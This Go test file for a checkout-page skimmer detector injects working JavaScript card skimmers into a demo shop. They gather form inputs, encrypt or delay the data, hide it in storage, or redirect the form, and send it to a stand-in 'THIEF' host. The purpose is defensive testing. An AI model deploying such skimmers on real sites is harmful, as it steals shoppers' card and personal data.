package page

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/demoshop"
	"github.com/tillwatch/tillwatch/sensor/page/browser"
)

// tamperedShop is a shop with more scripts on each page. In them THIEF is the origin of a host that nobody
// authorised, and that answers everybody.
func tamperedShop(t *testing.T, lines string, c demoshop.Checkout, more ...string) *demoshop.Shop {
	t.Helper()
	answer := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
		w.WriteHeader(http.StatusNoContent)
	})
	docroot := t.TempDir()
	shop := openShop(t, demoshop.Config{Docroot: docroot, Checkout: c, Hosts: map[string]http.Handler{"stats.localhost": answer}})
	layout := filepath.Join(docroot, "templates", "_layout.html")
	page, err := os.ReadFile(layout)
	if err != nil {
		t.Fatal(err)
	}
	thief := strings.TrimSuffix(shop.URL("stats.localhost"), "/")
	for i, text := range append([]string{lines}, more...) {
		name := "menu.js"
		if i > 0 {
			name = fmt.Sprintf("menu-%d.js", i)
		}
		page = []byte(strings.Replace(string(page), "</body>", `<script src="/assets/js/`+name+`"></script></body>`, 1))
		if err := os.WriteFile(filepath.Join(docroot, "assets", "js", name), []byte(strings.ReplaceAll(text, "THIEF", thief)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(layout, page, 0o644); err != nil {
		t.Fatal(err)
	}
	return shop
}

// gather is how the thieves below see the form.
const gather = `const seen = () => [...document.querySelectorAll('input')].map(i => i.name + '=' + i.value).join('&');
const text = () => btoa(unescape(encodeURIComponent(seen())));
const seal = async what => {
	const key = await crypto.subtle.generateKey({name: 'AES-GCM', length: 256}, true, ['encrypt']), iv = crypto.getRandomValues(new Uint8Array(12));
	return new Uint8Array([...iv, ...new Uint8Array(await crypto.subtle.encrypt({name: 'AES-GCM', iv}, key, new TextEncoder().encode(what)))]);
};
`

// Loot that leaves late, from the browser's storage, to the shop's own host, encrypted, or at another hour only.
func TestStealing(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		lines string
		rule  string
		at    tillwatch.Severity
		place string // in the finding's place
	}{
		"half a minute after the first key": {
			`let waiting; addEventListener('input', () => waiting ??= setTimeout(() => { new Image().src = 'THIEF/p.gif?d=' + text(); }, 30000));`,
			"page/canary-sent", tillwatch.Critical, "stats.localhost",
		},
		"kept encrypted until the next visit": {
			`if (localStorage.theme) navigator.sendBeacon('THIEF/c', localStorage.theme);
			addEventListener('change', async () => { localStorage.theme = btoa(String.fromCharCode(...await seal(seen()))); }, true);`,
			"page/storage-canary", tillwatch.High, "stats.localhost",
		},
		"encrypted, to the shop itself": {
			`addEventListener('change', async e => { if (/card/.test(e.target.name)) fetch('/api/log', {method: 'POST', body: await seal(seen())}); }, true);`,
			"page/typing-dependent", tillwatch.High, "shop.localhost",
		},
		"by a form that is turned to where pictures lie": {
			`addEventListener('click', e => { const b = e.target.closest('button'); if (b?.form?.elements.cardnumber) b.form.action = '/assets/js/c'; }, true);`,
			"page/form-turned", tillwatch.High, "/assets/js/c",
		},
		"from a day on": {
			`const now = new Date(); if (now.getHours() < 24 && now > new Date(DAY)) addEventListener('change', () => navigator.sendBeacon('THIEF/n', seen()), true);`,
			"page/canary-sent", tillwatch.Critical, "stats.localhost",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			lines := strings.ReplaceAll(c.lines, "DAY", strconv.FormatInt(time.Now().AddDate(0, 0, 20).UnixMilli(), 10))
			shop := tamperedShop(t, "(() => {"+gather+lines+"})()", demoshop.Checkout{})
			signs, gaps, _ := observe(t, Config{Layers: "D"}, shop.URL("shop.localhost"))
			if !slices.ContainsFunc(signs, func(s tillwatch.Sign) bool {
				return s.Rule == c.rule && s.Severity >= c.at && strings.Contains(s.Place, c.place)
			}) {
				t.Errorf("no %s at %s was found, but:\n%s\n%v", c.rule, c.place, shortly(signs), gaps)
			}
		})
	}
}

// What honest shops do with storage, timers and what is typed is no alarm.
func TestHonestScripts(t *testing.T) {
	t.Parallel()
	shop := tamperedShop(t, `
		// Session replay: masked, compressed, in batches.
		const events = [], session = crypto.randomUUID();
		localStorage.replay = session;
		for (const kind of ['input', 'click', 'keydown']) addEventListener(kind, e => {
			events.push({kind, at: performance.now(), name: e.target.name, value: '*'.repeat(e.target.value?.length ?? 0)});
		}, true);
		setInterval(async () => {
			if (!events.length) return;
			const text = new Blob([JSON.stringify({session, events: events.splice(0)})]);
			fetch('THIEF/replay', {method: 'POST', body: await new Response(text.stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer()});
		}, 400);
		// A draft of the address.
		addEventListener('input', e => {
			const draft = {};
			for (const i of e.target.form?.elements ?? []) if (/name|address|phone|mail|postal/.test(i.name) && !/card/.test(i.name)) draft[i.name] = i.value;
			localStorage.draft = JSON.stringify(draft);
		}, true);
	`, demoshop.Checkout{}, `
		// A check for robots: keys that write and others, when, sealed.
		const heard = [], pad = crypto.getRandomValues(new Uint8Array(32));
		for (const kind of ['keydown', 'keyup', 'click']) addEventListener(kind, e => heard.push([kind, e.keyCode < 48, Math.round(performance.now())]), true);
		setInterval(() => {
			const text = btoa(String.fromCharCode(...[...JSON.stringify(heard)].map((c, i) => c.charCodeAt(0) ^ pad[i % 32])));
			document.cookie = 'check=' + encodeURIComponent(text.slice(0, 120)) + ';path=/';
			fetch('THIEF/check', {method: 'POST', body: text});
		}, 700);
	`, `
		// Statistics.
		addEventListener('change', e => navigator.sendBeacon('THIEF/collect', JSON.stringify({event: 'progress', field: e.target.name, id: crypto.randomUUID()})), true);
		setTimeout(() => navigator.sendBeacon('THIEF/collect', JSON.stringify({event: 'idle', at: Date.now()})), 15000);
	`)
	signs, gaps, passed := observe(t, Config{}, shop.URL("shop.localhost"))
	for _, s := range signs {
		if s.Severity > tillwatch.Low {
			t.Errorf("an honest shop is told:\n%s", shortly([]tillwatch.Sign{s}))
		}
	}
	if !passed || len(gaps) > 0 {
		t.Errorf("passed %v, with the gaps %v", passed, gaps)
	}
}

func TestCardStored(t *testing.T) {
	n := someSet.Card.Number
	kept := func(key, value string) browser.Kept {
		return browser.Kept{At: noon.Add(time.Second), Stored: browser.Stored{Kind: "session", Origin: "https://shop.example", Key: key, Value: tillwatch.NewBody([]byte(value))}}
	}
	for name, c := range map[string]struct {
		kept []browser.Kept
		want int
	}{
		"nothing":             {},
		"a draft":             {[]browser.Kept{kept("draft", someSet.Person.Email+" "+someSet.Person.Phone)}, 0},
		"a card":              {[]browser.Kept{kept("c", "n="+n)}, 1},
		"disguised":           {[]browser.Kept{kept("c", base64.StdEncoding.EncodeToString([]byte(n+"|"+someSet.Card.Code)))}, 1},
		"in halves":           {[]browser.Kept{kept("ga", n[:8]), kept("gb", n[8:])}, 1},
		"the code and expiry": {[]browser.Kept{kept("c", "cvv="+someSet.Card.Code+"&exp="+someSet.Card.Expiry()+"&holder="+someSet.Card.Holder)}, 1},
	} {
		v := aVisit()
		v.began, v.kept = noon, c.kept
		signs := cardStored(v, atShop)
		if len(signs) != c.want {
			t.Errorf("%s: %s", name, shortly(signs))
		}
		for _, s := range signs {
			if text := shortly(signs); s.Severity != tillwatch.High || strings.Contains(text, n) || strings.Contains(text, n[:8]) {
				t.Errorf("%s: %s", name, text)
			}
		}
	}
}

func TestOpposite(t *testing.T) {
	for now, want := range map[string]string{
		"2026-11-24 10:00": "Saturday 02:30", "2026-11-27 22:00": "Wednesday 13:00", "2026-11-22 12:00": "Wednesday 13:00", "2026-11-25 03:00": "Wednesday 13:00",
	} {
		tokyo, err := time.LoadLocation("Asia/Tokyo")
		if err != nil {
			t.Skip(err)
		}
		at, err := time.ParseInLocation("2006-01-02 15:04", now, tokyo)
		if err != nil {
			t.Fatal(err)
		}
		ahead := opposite(at, "Asia/Tokyo")
		if got := at.Add(ahead).Format("Monday 15:04"); got != want || ahead < 34*24*time.Hour {
			t.Errorf("at %s the clock is put to %s, %s ahead; want %s", now, got, ahead, want)
		}
	}
}

// shortly is what signs come to, for comparison and for whoever reads why a test failed.
func shortly(signs []tillwatch.Sign) string {
	var lines []string
	for _, s := range signs {
		lines = append(lines, fmt.Sprintf("%s %s %s: %s", s.Severity, s.Rule, s.Place, s.Summary))
		for _, e := range s.Evidence {
			lines = append(lines, fmt.Sprintf("    %s (%s:%d) %s", e.What, e.Where, e.Line, e.Destination))
		}
	}
	return strings.Join(lines, "\n")
}
